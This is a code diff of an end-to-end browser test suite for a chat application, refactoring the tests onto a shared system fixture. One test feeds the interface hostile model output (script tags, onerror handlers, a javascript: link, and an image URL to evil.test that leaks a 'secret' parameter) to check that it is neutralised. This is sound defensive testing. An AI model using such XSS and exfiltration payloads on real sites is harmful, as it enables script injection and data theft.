@@ -1,16 +1,14 @@
-import { type FakeProvider, startFakeProvider, waitUntil } from '@parley/testing'
-import type { Browser, Page } from 'playwright-core'
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
-import { newVisitor, openBrowser, screenshot, type Visitor } from '../src/browser.ts'
-import { answers, asAdmin, composer, configure, hear, registerInBrowser, say } from '../src/people.ts'
-import { type System, startSystem } from '../src/system.ts'
+import { waitUntil } from '@parley/testing'
+import type { Page } from 'playwright-core'
+import { afterEach, beforeEach, describe, expect } from 'vitest'
+import { newVisitor, screenshot, type Visitor } from '../src/browser.ts'
+import { answers, asAdmin, composer, enter, hear, registerInBrowser, registerPerson, say } from '../src/people.ts'
+import { it, type SharedSystem } from '../src/shared-system.ts'
 
 const words = (count: number): string[] => Array.from({ length: count }, (_, index) => `word${index} `)
 
 describe('a person in the browser', () => {
-  let system: System
-  let provider: FakeProvider
-  let browser: Browser
+  let on: SharedSystem
   let visitor: Visitor
   let page: Page
   let people = 0
@@ -19,28 +17,25 @@ describe('a person in the browser', () => {
     return `person${people}`
   }
 
-  beforeAll(async () => {
-    provider = await startFakeProvider()
-    ;[system, browser] = await Promise.all([startSystem({ provider: provider.openaiUrl }), openBrowser()])
-    await configure(system)
-  })
-  afterAll(async () => {
-    await browser.close()
-    await Promise.all([system.dispose(), provider.close()])
+  it.beforeAll(async ({ shared }) => {
+    on = shared
+    await shared.begin()
   })
   beforeEach(async () => {
-    provider.reset()
-    visitor = await newVisitor(browser, system.url)
+    on.provider.reset()
+    visitor = await newVisitor(on.browser, on.system.url)
     page = visitor.page
   })
   afterEach(async ({ task }) => {
     if (task.result?.state === 'fail') await screenshot(page, `failed ${task.name}`)
-    await visitor.context.close()
+    await visitor.leave()
     expect(visitor.errors).toEqual([])
     expect(visitor.foreignRequests).toEqual([])
   })
 
   it('sends two messages as a guest and is asked to sign in, the third one kept', async () => {
+    // A network's guests share an allowance, which this one's has not begun to use.
+    await page.setExtraHTTPHeaders({ 'x-forwarded-for': '192.0.2.7' })
     await page.goto('/')
     await say(page, 'First question')
     await hear(page, 'You said: First question')
@@ -52,18 +47,18 @@ describe('a person in the browser', () => {
     await screenshot(page, 'guest-limit')
     await page.getByRole('link', { name: 'Sign in' }).last().click()
     await page.getByRole('heading', { name: 'Sign in' }).waitFor()
-    await page.getByLabel('Username or e-mail').fill(system.admin.username)
-    await page.getByLabel('Password', { exact: true }).fill(system.admin.password)
+    await page.getByLabel('Username or e-mail').fill(on.system.admin.username)
+    await page.getByLabel('Password', { exact: true }).fill(on.system.admin.password)
     await page.getByRole('button', { name: 'Sign in', exact: true }).click()
     await composer(page).waitFor()
     expect(await composer(page).inputValue()).toBe('Third question')
-    expect(provider.calls).toHaveLength(2)
+    expect(on.provider.calls).toHaveLength(2)
   })
 
   it('registers with the mailed code, chats, reloads in the middle and sees it go on', async () => {
-    await registerInBrowser(page, system, newName())
+    await registerInBrowser(page, on.system, newName())
     const chunks = words(120)
-    provider.reply({ chunks, delayMs: 30 })
+    on.provider.reply({ chunks, delayMs: 30 })
     await say(page, 'Tell me a long story')
     await answers(page).filter({ hasText: 'word5' }).waitFor()
     await page.waitForURL(/\/c\//)
@@ -71,18 +66,18 @@ describe('a person in the browser', () => {
     await answers(page).filter({ hasText: 'word5' }).waitFor()
     await hear(page, 'word119')
     expect((await answers(page).last().textContent())?.replace(/\s+/g, ' ')).toContain(chunks.join('').trim())
-    expect(provider.calls).toHaveLength(1)
+    expect(on.provider.calls).toHaveLength(1)
     await page.getByText('99 of 100 credits left').waitFor()
   })
 
   it('stops an answer, keeps its text and goes on', async () => {
-    await registerInBrowser(page, system, newName())
-    provider.reply({ chunks: words(50), hang: { after: 10 } })
+    await enter(page, await registerPerson(on.system, newName()))
+    on.provider.reply({ chunks: words(50), hang: { after: 10 } })
     await say(page, 'Never end')
     await answers(page).filter({ hasText: 'word9' }).waitFor()
     await page.getByRole('button', { name: 'Stop the answer' }).click()
     await page.getByText('You stopped this answer.').waitFor()
-    await provider.aborted(1)
+    await on.provider.aborted(1)
     await page.reload()
     await answers(page).filter({ hasText: 'word9' }).waitFor()
     await say(page, 'Again')
@@ -90,17 +85,17 @@ describe('a person in the browser', () => {
   })
 
   it('sees what a broken answer was and retries it', async () => {
-    await registerInBrowser(page, system, newName())
-    provider.reply({ chunks: ['Half ', 'an ', 'answer'], cutAfterChunks: 2 })
+    await enter(page, await registerPerson(on.system, newName()))
+    on.provider.reply({ chunks: ['Half ', 'an ', 'answer'], cutAfterChunks: 2 })
     await say(page, 'Break')
     await answers(page).filter({ hasText: 'Half an' }).waitFor()
-    provider.reply({ text: 'A whole answer' })
+    on.provider.reply({ text: 'A whole answer' })
     await page.getByRole('button', { name: 'Retry' }).click()
     await hear(page, 'A whole answer')
   })
 
   it('renames, pins, deletes and undoes, and deletes five selected chats', async () => {
-    await registerInBrowser(page, system, newName())
+    await enter(page, await registerPerson(on.system, newName()))
     for (let chat = 1; chat <= 6; chat += 1) {
       await say(page, `Topic number ${chat}`)
       await hear(page, `You said: Topic number ${chat}`)
@@ -143,29 +138,28 @@ describe('a person in the browser', () => {
   })
 
   it('is banned and sees it at once, and again when it is over', async () => {
-    const name = newName()
-    await registerInBrowser(page, system, name)
-    const admin = await asAdmin(system)
-    const { body } = await admin.api.get(`/api/admin/users?query=${name}`)
-    const id = (body as { users: { _id: string }[] }).users[0]?._id
-    await admin.api.patch(`/api/admin/users/${id}`, { banned: true })
+    const person = await registerPerson(on.system, newName())
+    await enter(page, person)
+    await composer(page).waitFor()
+    const admin = await asAdmin(on.system)
+    await admin.api.patch(`/api/admin/users/${person.id}`, { banned: true })
     await page.getByText('Account Suspended').waitFor()
     await page.getByText('Your account has been banned. Please contact support for assistance.').waitFor()
     await screenshot(page, 'suspended')
-    await admin.api.patch(`/api/admin/users/${id}`, { banned: false })
+    await admin.api.patch(`/api/admin/users/${person.id}`, { banned: false })
     await page.getByText('Account Suspended').waitFor({ state: 'detached' })
     await admin.close()
   })
 
   it('runs nothing that a model writes and loads nothing from elsewhere', async () => {
-    await registerInBrowser(page, system, newName())
+    await enter(page, await registerPerson(on.system, newName()))
     const hostile = [
       '<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1"><svg onload="window.hacked = 1">',
       '[click](javascript:window.hacked=1) ![pixel](https://evil.test/p.png?d=secret) <iframe srcdoc="x"></iframe>',
       '```html\n<img src=x onerror="window.hacked = 1">\n```',
       'The end of it.',
     ].join('\n\n')
-    provider.reply({ text: hostile })
+    on.provider.reply({ text: hostile })
     await say(page, 'Attack')
     await hear(page, 'The end of it.')
     await page.getByRole('link', { name: 'Open image “pixel” from evil.test' }).waitFor()
@@ -174,7 +168,7 @@ describe('a person in the browser', () => {
   })
 
   it('keeps a draft through a reload and one for each chat', async () => {
-    await registerInBrowser(page, system, newName())
+    await enter(page, await registerPerson(on.system, newName()))
     await composer(page).fill('An unfinished thought')
     await waitUntil(
       () => page.evaluate(() => (JSON.stringify(localStorage).includes('An unfinished thought') ? true : undefined)),
